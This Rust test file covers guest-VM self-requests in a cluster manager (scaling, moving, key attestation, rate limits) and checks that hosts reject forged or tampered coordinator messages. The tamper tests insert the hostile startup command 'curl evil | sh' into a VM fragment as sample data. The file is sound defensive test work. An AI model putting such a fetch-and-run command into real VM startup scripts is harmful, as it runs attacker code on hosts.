//! What VMs ask for themselves: granted and made by their owner, and judged again by every host that it changes.

use super::*;
use crate::model::{Blob, Definition};
use crate::record::{Commit, Consent, Revision};
use crate::trust::{
    Attestation, GuestRequest, GuestRight, HostPattern, Limits, Scope, Standing, Use, UseKind, Wanted, admit,
};

const TEXT: &str = "\
global {
    project web
    autoenum servers { numhosts 2; superclass webserver; service_hosts { bergen all } }
}
superclass webserver { memory 32M }
superclass decider {
    memory 32M
    policy grow { grace 15s; may scale servers 1..4; may move bergen @sea }
}
host balancer { superclass decider; service_host oslo }
host second { superclass decider; service_host oslo }
host plain { memory 32M; service_host gjovik }
";

const GRACE_MS: u64 = 15_000;

fn definition(text: &str) -> Definition {
    Definition {
        source: Some(text.to_owned()),
        variables: Vec::new(),
        files: Vec::new(),
        templates: Vec::new(),
    }
}

fn resolved(text: &str) -> (Project, Vec<Blob>) {
    let (tree, _) = crate::lang::parse("project", text.to_owned(), &crate::lang::NoIncludes);
    let options = crate::resolve::Options { owner: Some(name("root")), ..Default::default() };
    let resolved = crate::resolve::resolve(&tree, &options);
    let bytes = wire::encode_definition(&definition(text));
    let (digest, bytes) = (Digest::of(&bytes), bytes.len() as u64);
    (resolved.project, vec![Blob { from: Blob::DEFINITION.to_owned(), digest, bytes, mode: 0o600 }])
}

fn label() -> Label {
    Label { owner: name("root"), project: name("web") }
}

fn order(text: &str) -> BuildOrder {
    let (project, blobs) = resolved(text);
    let author = "root at oslo".to_owned();
    BuildOrder {
        label: label(),
        project,
        blobs,
        author,
        existing: ExistingProject::Refuse,
        on_failure: OnFailure::Undo,
    }
}

fn upgrade(project: ProjectId, text: &str, consent: Consent) -> Operation {
    let (lab, blobs) = resolved(text);
    Operation::Revise(Box::new(ReviseOrder {
        project,
        content: ReviseContent::Definition { project: lab, blobs },
        author: "anna".to_owned(),
        reason: "upgrade".to_owned(),
        consent,
        running: RunningVms::Refuse,
        from_head: None,
        keep_removed_ms: 0,
    }))
}

fn scale(to: u32) -> Wanted {
    Wanted::Scale { class: name("servers"), to }
}

fn go(to: &str) -> Wanted {
    Wanted::Move { to: HostAddress(to.to_owned()) }
}

/// The key of a guest in this boot.
fn guest(number: u8) -> KeyPair {
    sample::keys(number)
}

/// A project of [`TEXT`] on the three hosts, and the texts of its revisions.
struct Lab {
    cluster: Cluster,
    project: ProjectId,
    number: u64,
}

impl Lab {
    fn new() -> Self {
        Self::of(TEXT)
    }

    fn of(text: &str) -> Self {
        let mut cluster = Cluster::new(512);
        cluster.begin(0, 1, Operation::Build(Box::new(order(text))));
        cluster.end_steps();
        assert_eq!(cluster.outcome(1), &Outcome::Done);
        let project = cluster.nodes[0].projects()[0].id;
        Self { cluster, project, number: 0 }
    }

    fn now(&self) -> Now {
        Now { mono_ms: self.cluster.now_ms, unix_ms: self.cluster.now_ms }
    }

    fn vm(&self, named: &str) -> VmId {
        self.cluster.nodes[0].vm(self.project, &name(named)).expect("it is known").status.vm
    }

    fn head(&self) -> Commit {
        let heads = self.cluster.nodes[0].heads(self.project).expect("it is built");
        self.cluster.nodes[0].revision(heads.head()).expect("it is there").clone()
    }

    fn attest(&mut self, host: usize, named: &str, boot: u64, key: u8) -> Option<Verified<Attestation>> {
        let (now, vm) = (self.now(), self.vm(named));
        self.cluster.nodes[host].attest(now, &vm, boot, guest(key).public())
    }

    /// Returns what a guest signs about the head, with the head's text.
    fn right(
        &mut self,
        attestation: Verified<Attestation>,
        key: u8,
        text: &str,
        wanted: Wanted,
    ) -> GuestRight {
        self.number += 1;
        let request = GuestRequest {
            vm: attestation.vm.clone(),
            parent: self.head().digest,
            number: self.number,
            wanted,
            reason: String::new(),
            made_unix_ms: 0,
        };
        let request = wire::sign_guest_request(&guest(key), request);
        GuestRight { attestation, request, definition: wire::encode_definition(&definition(text)).into() }
    }

    /// Has a guest ask its owner, and returns how that ends.
    fn ask(&mut self, host: usize, right: GuestRight) -> Outcome {
        let op = 100 + self.cluster.outcomes.len() as u64;
        self.cluster.begin(host, op, Operation::Guest(Box::new(right)));
        for _ in 0..4 {
            self.cluster.end_steps();
        }
        self.cluster.outcome(op).clone()
    }

    /// Has the guest in a VM on oslo ask for something.
    fn ask_as(&mut self, named: &str, key: u8, text: &str, wanted: Wanted) -> Outcome {
        let attestation = self.attest(0, named, 1, key).expect("it is oslo's");
        let right = self.right(attestation, key, text, wanted);
        self.ask(0, right)
    }

    fn placed(&self) -> Vec<String> {
        let mut placed: Vec<String> =
            self.head().placed().map(|(vm, host)| format!("{} {}", vm.name, host.name)).collect();
        placed.sort();
        placed
    }
}

#[track_caller]
fn refused(outcome: &Outcome) -> Rule {
    match outcome {
        Outcome::Refused(refusals) => refusals.first().expect("there is a reason").refusal.rule,
        Outcome::Done | Outcome::Failed(_) => panic!("not refused: {outcome:?}"),
    }
}

fn scaled_text(to: u32) -> String {
    TEXT.replace("numhosts 2", &format!("numhosts {to}"))
}

/// [`TEXT`] with the balancer on bergen.
fn moved_text() -> String {
    let head = "host balancer { superclass decider; service_host ";
    TEXT.replace(&format!("{head}oslo"), &format!("{head}bergen"))
}

#[test]
fn a_class_grows_and_shrinks_by_what_one_of_the_vms_wants() {
    let mut lab = Lab::new();
    assert_eq!(lab.ask_as("balancer", 50, TEXT, scale(3)), Outcome::Done);
    let head = lab.head();
    let placed =
        ["balancer oslo", "node1 bergen", "node2 bergen", "node3 bergen", "plain gjovik", "second oslo"];
    assert_eq!(lab.placed(), placed);
    let decision = head.revision.decision.as_ref().expect("a VM decided on it");
    assert_eq!(decision.vm, lab.vm("balancer"));
    let kind = UseKind::Scale { class: name("servers"), to: 3 };
    assert_eq!(decision.uses, [Use { origin: name("decider"), policy: name("grow"), kind }]);
    assert_eq!(head.revision.author, "balancer of root/web");
    assert_eq!(head.revision.reason, "scale servers to 3");
    assert_eq!(head.revision.definition, Digest::of(&wire::encode_definition(&definition(&scaled_text(3)))));
    lab.cluster.pass(GRACE_MS);
    assert_eq!(lab.ask_as("balancer", 50, &scaled_text(3), scale(1)), Outcome::Done);
    assert_eq!(lab.placed(), ["balancer oslo", "node1 bergen", "plain gjovik", "second oslo"]);
    assert_eq!(lab.head().revision.keep_removed_ms, limits::GUEST_KEEP_REMOVED_MS);
    // Who comes back is the same one as long as its disk is kept.
    let births =
        |lab: &Lab| lab.head().placed().find(|(vm, _)| vm.name == name("node2")).map(|(vm, _)| vm.birth);
    lab.cluster.pass(GRACE_MS);
    assert_eq!(lab.ask_as("balancer", 50, &scaled_text(1), scale(2)), Outcome::Done);
    assert_eq!(births(&lab), Some(lab.project.0));
}

#[test]
fn a_vm_moves_itself_and_has_another_key_there() {
    let mut lab = Lab::new();
    let vm = lab.vm("balancer");
    lab.cluster.disks.insert((0, vm.clone()), 1);
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let right = lab.right(attestation.clone(), 50, TEXT, go("bergen"));
    assert_eq!(lab.ask(0, right), Outcome::Done);
    assert_eq!(lab.cluster.owner_told(2, &vm), "bergen 1.2");
    let text = moved_text();
    assert_eq!(lab.placed()[0], "balancer bergen");
    assert_eq!(lab.head().revision.definition, Digest::of(&wire::encode_definition(&definition(&text))));
    lab.cluster.pass(GRACE_MS);
    // The old key is worth nothing, wherever it is brought.
    let right = lab.right(attestation, 50, &text, go("oslo"));
    assert_eq!(refused(&lab.ask(0, right.clone())), Rule::GuestKey);
    assert_eq!(refused(&lab.ask(1, right)), Rule::GuestKey);
    assert_eq!(lab.attest(0, "balancer", 2, 51), None, "oslo speaks for it no more");
    let attestation = lab.attest(1, "balancer", 1, 51).expect("it is bergen's");
    // @sea is oslo alone.
    let right = lab.right(attestation, 51, &text, go("@sea"));
    assert_eq!(lab.ask(1, right), Outcome::Done);
    assert_eq!(lab.cluster.owner_told(2, &vm), "oslo 1.3");
}

#[test]
fn what_no_policy_of_the_parent_allows_is_refused_and_says_by_what_rule() {
    let wider = TEXT.replace("1..4", "1..9");
    let more_and_wider = wider.replace("numhosts 2", "numhosts 3");
    let other = TEXT.replace("project web", "project other");
    let set = |path: &str, value: &str| Wanted::Set { path: path.to_owned(), value: Some(value.to_owned()) };
    use Rule::{Envelope, Malformed, Unchanged};
    for (wanted, rule, expect) in [
        (go("gjovik"), Envelope, "no `may move` of `balancer` names `gjovik`"),
        (go("nowhere"), Envelope, "no `may move`"),
        (scale(5), Envelope, "5 of `servers` are outside of `may scale servers 1..4`"),
        (scale(9_999), Malformed, "a count of 9999 is more than the 2048"),
        (scale(2), Unchanged, "nothing would change"),
        (Wanted::Scale { class: name("unknown"), to: 3 }, Malformed, "no enumeration is named `unknown`"),
        (set("/host/plain/memory", "96M"), Envelope, "`plain` would change, and no `policy`"),
        (set("/host/balancer/memory", "96M"), Envelope, "`balancer` would change, and no `policy`"),
        (set("/host/plain/service_host", "oslo"), Envelope, "`plain` would change, and no `policy`"),
        (Wanted::Text(wider), Envelope, "what `balancer` may decide would change"),
        (Wanted::Text(more_and_wider), Envelope, "what `balancer` may decide would change"),
        (Wanted::Text(other), Envelope, "the project's name would change"),
        (
            Wanted::Text(TEXT.replace("host plain", "# mine\nhost plain")),
            Envelope,
            "what the project is written as",
        ),
        (Wanted::Text("host {".to_owned()), Malformed, "of the text would be wrong"),
        (Wanted::Text(TEXT.replace("numhosts 2", "numhosts 99999")), Malformed, "of the text would be wrong"),
    ] {
        let mut lab = Lab::new();
        let before = lab.head();
        let outcome = lab.ask_as("balancer", 50, TEXT, wanted.clone());
        let Outcome::Refused(refusals) = &outcome else { panic!("{wanted:?}: {outcome:?}") };
        let refusal = &refusals[0].refusal;
        assert_eq!(refusal.rule, rule, "{wanted:?}: {refusal:?}");
        assert!(refusal.detail.contains(expect), "{wanted:?}: {}", refusal.detail);
        assert_eq!(lab.head(), before);
    }
    // As far as texts go, it is what they come to that counts, not how somebody asks for them.
    for wanted in [Wanted::Text(scaled_text(4)), set("/host/balancer/service_host", "bergen")] {
        let mut lab = Lab::new();
        let vm = lab.vm("balancer");
        lab.cluster.disks.insert((0, vm), 1);
        assert_eq!(lab.ask_as("balancer", 50, TEXT, wanted), Outcome::Done);
    }
    let mut lab = Lab::new();
    let attestation = lab.attest(2, "plain", 1, 50).expect("it is gjovik's");
    let right = lab.right(attestation, 50, TEXT, scale(3));
    assert_eq!(refused(&lab.ask(2, right)), Rule::Envelope, "it has no policy");
}

#[test]
fn those_who_share_a_policy_share_its_grace() {
    let mut lab = Lab::new();
    assert_eq!(lab.ask_as("balancer", 50, TEXT, scale(3)), Outcome::Done);
    lab.cluster.pass(GRACE_MS - 1);
    assert_eq!(refused(&lab.ask_as("second", 51, &scaled_text(3), scale(4))), Rule::Envelope);
    lab.cluster.pass(1);
    assert_eq!(lab.ask_as("second", 51, &scaled_text(3), scale(4)), Outcome::Done);
    assert_eq!(refused(&lab.ask_as("balancer", 50, &scaled_text(4), scale(3))), Rule::Envelope);
}

#[test]
fn only_the_key_that_the_guest_has_now_counts() {
    let mut lab = Lab::new();
    let first = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    assert_eq!(lab.attest(0, "balancer", 1, 50), Some(first.clone()), "the same again is the same");
    assert_eq!(lab.attest(0, "balancer", 1, 51), None, "one boot has one key");
    assert_eq!(lab.attest(1, "balancer", 2, 51), None, "bergen doesn't own it");
    let second = lab.attest(0, "balancer", 2, 51).expect("it is oslo's");
    assert_eq!(lab.attest(0, "balancer", 1, 50), None, "an older boot is over");
    let of_second = lab.attest(0, "second", 1, 52).expect("it is oslo's");
    let vm = lab.vm("balancer");
    let strange = Attestation { vm: vm.clone(), key: guest(50).public(), ..(*second).clone() };
    let strange = wire::sign_attestation(&keys(1), strange);
    for (attestation, key) in [(first, 50), (second.clone(), 50), (second.clone(), 52), (strange, 50)] {
        let right = lab.right(attestation, key, TEXT, scale(3));
        assert_eq!(refused(&lab.ask(0, right)), Rule::GuestKey);
    }
    // With one's own key for another VM.
    let mut right = lab.right(of_second, 52, TEXT, scale(3));
    let request = GuestRequest { vm, ..(*right.request).clone() };
    right.request = wire::sign_guest_request(&guest(52), request);
    assert_eq!(refused(&lab.ask(0, right)), Rule::GuestKey);
    let right = lab.right(second, 51, TEXT, scale(3));
    assert_eq!(lab.ask(0, right.clone()), Outcome::Done);
    lab.cluster.pass(GRACE_MS);
    assert_eq!(refused(&lab.ask(0, right)), Rule::GuestKey, "the same again is none");
}

#[test]
fn a_guest_that_asks_often_is_not_looked_at() {
    let mut lab = Lab::new();
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let mut rules = Vec::new();
    for _ in 0..limits::GUEST_REQUESTS_MAX + 2 {
        let right = lab.right(attestation.clone(), 50, TEXT, scale(9));
        rules.push(refused(&lab.ask(0, right)));
    }
    let (looked_at, others) = rules.split_at(limits::GUEST_REQUESTS_MAX as usize);
    assert!(looked_at.iter().all(|rule| *rule == Rule::Envelope), "{rules:?}");
    assert_eq!(others, [Rule::GuestRate; 2]);
    lab.cluster.pass(limits::GUEST_REQUEST_MS);
    let again = lab.right(attestation, 50, TEXT, scale(3));
    assert_eq!(lab.ask(0, again), Outcome::Done);
}

#[test]
fn what_is_not_decided_yet_is_not_asked_for_twice() {
    let mut lab = Lab::new();
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    lab.cluster.loses = |output| matches!(output, Output::Send { message: Message::Answer { .. }, .. });
    let right = lab.right(attestation.clone(), 50, TEXT, scale(3));
    lab.cluster.begin(0, 40, Operation::Guest(Box::new(right)));
    let right = lab.right(attestation, 50, TEXT, scale(4));
    lab.cluster.begin(0, 41, Operation::Guest(Box::new(right)));
    assert_eq!(refused(lab.cluster.outcome(41)), Rule::GuestRate);
    lab.cluster.loses = |_| false;
    for _ in 0..4 {
        lab.cluster.pass(limits::RESEND_MS);
        lab.cluster.end_steps();
    }
    assert_eq!(lab.cluster.outcome(40), &Outcome::Done);
}

#[test]
fn a_project_that_has_changed_or_is_not_settled_is_not_changed_by_a_vm() {
    let mut lab = Lab::new();
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let late = lab.right(attestation.clone(), 50, TEXT, scale(3));
    let text = TEXT.replace("host plain { memory 32M", "host plain { memory 64M");
    lab.cluster.begin(0, 2, upgrade(lab.project, &text, Consent::Majority));
    lab.cluster.end_steps();
    assert_eq!(refused(&lab.ask(0, late)), Rule::Parent);
    // The text of an older revision makes nothing of this one.
    let right = lab.right(attestation.clone(), 50, TEXT, scale(3));
    assert_eq!(refused(&lab.ask(0, right)), Rule::Malformed);
    let text = text.replace("memory 64M", "memory 48M");
    lab.cluster.begin(0, 3, upgrade(lab.project, &text, Consent::Partial));
    lab.cluster.end_steps();
    let heads = lab.cluster.nodes[0].heads(lab.project).expect("it is there");
    assert_eq!(heads.partial.len(), 1);
    let right = lab.right(attestation, 50, &text, scale(3));
    assert_eq!(refused(&lab.ask(0, right)), Rule::Contested);
}

#[test]
fn of_a_vm_and_a_person_who_change_one_revision_one_is_told_who_won() {
    let mut lab = Lab::new();
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    lab.cluster.loses = |output| matches!(output, Output::Send { message: Message::Propose(_), .. });
    let right = lab.right(attestation, 50, TEXT, scale(3));
    lab.cluster.begin(0, 40, Operation::Guest(Box::new(right)));
    let text = TEXT.replace("host plain { memory 32M", "host plain { memory 64M");
    lab.cluster.begin(2, 41, upgrade(lab.project, &text, Consent::Majority));
    lab.cluster.loses = |_| false;
    for _ in 0..60 {
        lab.cluster.pass(1_000);
        lab.cluster.end_steps();
    }
    let outcomes = [lab.cluster.outcome(40), lab.cluster.outcome(41)];
    let won = outcomes.iter().filter(|outcome| ***outcome == Outcome::Done).count();
    let told = outcomes
        .iter()
        .filter(|outcome| matches!(outcome, Outcome::Refused(_)))
        .map(|outcome| refused(outcome));
    assert_eq!((won, told.collect::<Vec<_>>()), (1, vec![Rule::Overtaken]), "{outcomes:?}");
}

/// What a coordinator that can't be trusted sends to bergen: its question and the part, altered.
struct Forged {
    ask: Ask,
    fragment: Option<Arc<Fragment>>,
}

impl Forged {
    /// Says in the revision that the part is this one.
    fn put(&mut self, host: usize, fragment: Fragment) {
        let digest = Digest::of(&wire::encode_fragment(&fragment));
        let key = keys(host).public();
        let named = self.ask.revision.hosts.iter_mut().find(|host| host.key == key).expect("it has a part");
        named.fragment = digest;
        if host == 1 {
            self.fragment = Some(Arc::new(fragment));
        }
    }

    fn revision(&mut self) -> &mut Revision {
        &mut self.ask.revision
    }
}

/// Has oslo ask bergen about what the balancer wants, altered on the way out; returns bergen's word.
fn forged(
    lab: &mut Lab,
    wanted: Wanted,
    author: usize,
    alter: impl FnOnce(&mut Forged, &Lab),
) -> Option<Rule> {
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let right = lab.right(attestation, 50, TEXT, wanted);
    let now = lab.now();
    let asked =
        lab.cluster.nodes[0].inquiries(now, &Intention::Guest(Box::new(right)), None).expect("a draft");
    let to_bergen = asked.into_iter().find(|inquiry| inquiry.host == keys(1).public()).expect("it changes");
    let Message::Ask { ask, fragment } = to_bergen.message else { panic!("not a question") };
    let mut forged = Forged { ask: (**ask).clone(), fragment };
    alter(&mut forged, lab);
    let Forged { mut ask, fragment } = forged;
    ask.digest = Digest::of(&wire::encode_revision(&ask.revision));
    let payload = wire::encode_ask(&ask);
    let ask = Arc::new(Verified::own(&keys(author), Domain::Request, ask, payload));
    // Through the codec, as it would be.
    let bytes = wire::encode_message(&Message::Ask { ask, fragment });
    let message =
        wire::decode_message(&bytes, KeyPair::from_secret([99; 32]).public()).expect("it can be read");
    let Message::Ask { ask, fragment } = message else { panic!("not a question") };
    let planned =
        lab.cluster.nodes[1].consider(now, &ask, fragment.clone()).verdict.err().map(|refusal| refusal.rule);
    let from = keys(author).public();
    let mut told = None;
    lab.cluster.nodes[1].handle(now, Input::Message { from, message: Message::Ask { ask, fragment } });
    while let Some(output) = lab.cluster.nodes[1].poll_output() {
        match output {
            Output::Check { revision, .. } => {
                lab.cluster.nodes[1].handle(now, Input::Checked { revision, verdict: Ok(()) });
            }
            Output::Persist { id, .. } => lab.cluster.nodes[1].handle(now, Input::Persisted(id)),
            Output::Send { message: Message::Answer { verdict, .. }, .. } => {
                told = Some(verdict.map(drop).map_err(|refusal| refusal.rule));
            }
            _ => {}
        }
    }
    let told = told.expect("it has answered").err();
    assert_eq!(told, planned, "what it says of a plan is what it does");
    told
}

#[test]
fn a_host_takes_nothing_from_whoever_coordinates() {
    type Alter = fn(&mut Forged, &Lab);
    let cases: [(&str, Alter, Option<Rule>); 17] = [
        ("nothing", |_, _| {}, None),
        (
            "its part",
            |forged, _| {
                let mut part = (**forged.fragment.as_ref().expect("it has one")).clone();
                part.vms[0].startup.push("curl evil | sh".to_owned());
                forged.put(1, part);
            },
            Some(Rule::Malformed),
        ),
        (
            "the part of a third host",
            |forged, lab| {
                let digest = lab.head().host(keys(2).public()).expect("it has a part").fragment;
                let mut part = (*lab.cluster.nodes[2].fragments[&digest]).clone();
                part.vms[0].memory = MemoryMib(96);
                forged.put(2, part);
            },
            Some(Rule::Malformed),
        ),
        ("the text", |forged, _| forged.revision().definition = Digest([3; 32]), Some(Rule::Malformed)),
        (
            "a third VM that is elsewhere",
            |forged, _| {
                let plain = forged.revision().hosts.iter_mut().find_map(|host| {
                    let at = host.vms.iter().position(|vm| vm.name == name("plain"))?;
                    Some(host.vms.remove(at))
                });
                let oslo = keys(0).public();
                let oslo = forged.revision().hosts.iter_mut().find(|host| host.key == oslo);
                oslo.expect("it has a part").vms.push(plain.expect("it is there"));
            },
            Some(Rule::Malformed),
        ),
        (
            "a VM that is another one",
            |forged, _| {
                let vms = forged.revision().hosts.iter_mut().flat_map(|host| &mut host.vms);
                vms.for_each(|vm| vm.birth = None);
            },
            Some(Rule::Malformed),
        ),
        (
            "the name of a host",
            |forged, _| {
                let gjovik = keys(2).public();
                let named = forged.revision().hosts.iter_mut().find(|host| host.key == gjovik);
                named.expect("it has a part").name = name("narvik");
                forged.revision().hosts.sort();
            },
            Some(Rule::Malformed),
        ),
        ("the reason", |forged, _| forged.revision().reason = "by anna".to_owned(), Some(Rule::Malformed)),
        ("the author", |forged, _| forged.revision().author = "anna".to_owned(), Some(Rule::Malformed)),
        ("the time for disks", |forged, _| forged.revision().keep_removed_ms = 1, Some(Rule::Malformed)),
        (
            "the time",
            |forged, lab| {
                forged.revision().made_unix_ms = lab.cluster.now_ms + limits::GUEST_AHEAD_MS_MAX + 1
            },
            Some(Rule::Malformed),
        ),
        ("the majority", |forged, _| forged.revision().consent = Consent::Partial, Some(Rule::Malformed)),
        (
            "what was used",
            |forged, _| forged.revision().decision.as_mut().expect("it decided").uses.clear(),
            Some(Rule::Malformed),
        ),
        ("that a VM decided", |forged, _| forged.revision().decision = None, Some(Rule::Malformed)),
        ("the right", |forged, _| forged.ask.guest = None, Some(Rule::Malformed)),
        (
            "the guest's signature",
            |forged, _| {
                let right = forged.ask.guest.clone().expect("it has one");
                let request = wire::sign_guest_request(&guest(51), (*right.request).clone());
                forged.ask.guest = Some(Arc::new(GuestRight { request, ..(*right).clone() }));
            },
            Some(Rule::GuestKey),
        ),
        (
            "the epoch",
            |forged, _| {
                let right = forged.ask.guest.clone().expect("it has one");
                let mut word = (*right.attestation).clone();
                word.epoch.n += 1;
                let attestation = wire::sign_attestation(&keys(0), word);
                forged.ask.guest = Some(Arc::new(GuestRight { attestation, ..(*right).clone() }));
            },
            Some(Rule::GuestKey),
        ),
    ];
    for (what, alter, expect) in cases {
        assert_eq!(forged(&mut Lab::new(), scale(3), 0, alter), expect, "{what}");
    }
    // A host that doesn't own the VM, or has signed for its key itself.
    let nothing = |_: &mut Forged, _: &Lab| {};
    assert_eq!(forged(&mut Lab::new(), scale(3), 2, nothing), Some(Rule::GuestKey));
    let own_word = |forged: &mut Forged, _: &Lab| {
        let right = forged.ask.guest.clone().expect("it has one");
        let attestation = wire::sign_attestation(&keys(2), (*right.attestation).clone());
        forged.ask.guest = Some(Arc::new(GuestRight { attestation, ..(*right).clone() }));
    };
    assert_eq!(forged(&mut Lab::new(), scale(3), 2, own_word), Some(Rule::GuestKey));
}

#[test]
fn another_host_than_the_owner_judges_the_envelope_by_itself() {
    // The owner coordinates what no policy allows: bergen, which is to carry it, makes it again and refuses.
    assert_eq!(forged(&mut Lab::new(), scale(3), 0, over), Some(Rule::Envelope));
}

#[path = "guest_grants_test.rs"]
mod grants;

/// Has oslo coordinate what no policy allows.
fn over(forged: &mut Forged, _: &Lab) {
    let right = forged.ask.guest.clone().expect("it has one");
    let request = GuestRequest { wanted: scale(9), ..(*right.request).clone() };
    let request = wire::sign_guest_request(&guest(50), request);
    forged.revision().reason = request.reason_given();
    forged.revision().decision.as_mut().expect("it decided").request = request.digest();
    forged.ask.guest = Some(Arc::new(GuestRight { request, ..(*right).clone() }));
}

#[test]
fn a_coordinator_makes_others_work_so_often_and_for_the_same_once() {
    let mut lab = Lab::new();
    let mut first = None;
    for _ in 0..limits::GUEST_QUESTIONS_MAX {
        let keeps = |forged: &mut Forged, lab: &Lab| {
            over(forged, lab);
            first.get_or_insert_with(|| forged.ask.clone());
        };
        assert_eq!(forged(&mut lab, scale(3), 0, keeps), Some(Rule::Envelope));
    }
    let first = first.expect("it was asked");
    let again = |forged: &mut Forged, _: &Lab| forged.ask = first.clone();
    assert_eq!(forged(&mut lab, scale(3), 0, again), Some(Rule::Envelope), "it is remembered");
    assert_eq!(forged(&mut lab, scale(3), 0, over), Some(Rule::GuestRate));
    let allowed = |_: &mut Forged, _: &Lab| {};
    assert_eq!(forged(&mut lab, scale(3), 0, allowed), Some(Rule::GuestRate));
    lab.cluster.pass(limits::GUEST_QUESTION_MS);
    assert_eq!(forged(&mut lab, scale(3), 0, over), Some(Rule::Envelope));
}

#[test]
fn a_host_that_a_change_does_not_concern_never_looks_at_the_text() {
    let text =
        TEXT.replace("plain { memory 32M; service_host gjovik", "plain { memory 32M; service_host oslo");
    let mut lab = Lab::of(&text);
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let right = lab.right(attestation, 50, &text, scale(3));
    let now = lab.now();
    let asked =
        lab.cluster.nodes[0].inquiries(now, &Intention::Guest(Box::new(right)), None).expect("a draft");
    let Message::Ask { ask, .. } = &asked[0].message else { panic!("not a question") };
    let mut forged = Forged { ask: (***ask).clone(), fragment: None };
    over(&mut forged, &lab);
    forged.ask.host = keys(2).public();
    forged.ask.digest = Digest::of(&wire::encode_revision(&forged.ask.revision));
    let payload = wire::encode_ask(&forged.ask);
    let ask = Verified::own(&keys(0), Domain::Request, forged.ask, payload);
    let refusal = lab.cluster.nodes[2].consider(now, &ask, None).verdict.expect_err("it has no part");
    assert_eq!(
        (refusal.rule, refusal.detail.as_str()),
        (Rule::Malformed, "the revision doesn't change this host's part")
    );
}

/// A rule that is switched off lets pass what it is there for: else no checker could notice it.
#[cfg(feature = "mutants")]
#[test]
fn each_rule_of_guests_that_is_switched_off_lets_something_pass() {
    let without = |rule| {
        let mut lab = Lab::new();
        lab.cluster.nodes.iter_mut().for_each(|node| node.config.mutation = Some(rule));
        lab
    };
    assert_eq!(without(Mutation::EnvelopeIgnored).ask_as("balancer", 50, TEXT, scale(6)), Outcome::Done);
    let wider = Wanted::Text(scaled_text(3).replace("1..4", "1..9"));
    assert_eq!(without(Mutation::EnvelopeReadFromChild).ask_as("balancer", 50, TEXT, wider), Outcome::Done);
    let mut lab = without(Mutation::BudgetPerVm);
    assert_eq!(lab.ask_as("balancer", 50, TEXT, scale(3)), Outcome::Done);
    assert_eq!(lab.ask_as("second", 51, &scaled_text(3), scale(4)), Outcome::Done);
    let mut lab = without(Mutation::GuestSignatureIgnored);
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let right = lab.right(attestation, 51, TEXT, scale(3));
    assert_eq!(lab.ask(0, right), Outcome::Done);
    let mut lab = without(Mutation::GuestKeyKeptOverAnEpoch);
    let vm = lab.vm("balancer");
    lab.cluster.disks.insert((0, vm), 1);
    let attestation = lab.attest(0, "balancer", 1, 50).expect("it is oslo's");
    let right = lab.right(attestation.clone(), 50, TEXT, go("bergen"));
    assert_eq!(lab.ask(0, right), Outcome::Done);
    lab.cluster.pass(GRACE_MS);
    let text = moved_text();
    let right = lab.right(attestation, 50, &text, scale(3));
    assert_eq!(lab.ask(0, right), Outcome::Done);
    let alters = |forged: &mut Forged, _: &Lab| {
        let mut part = (**forged.fragment.as_ref().expect("it has one")).clone();
        part.vms[0].startup.push("curl evil | sh".to_owned());
        forged.put(1, part);
    };
    assert_eq!(forged(&mut without(Mutation::GuestPartNotRemade), scale(3), 0, alters), None);
}
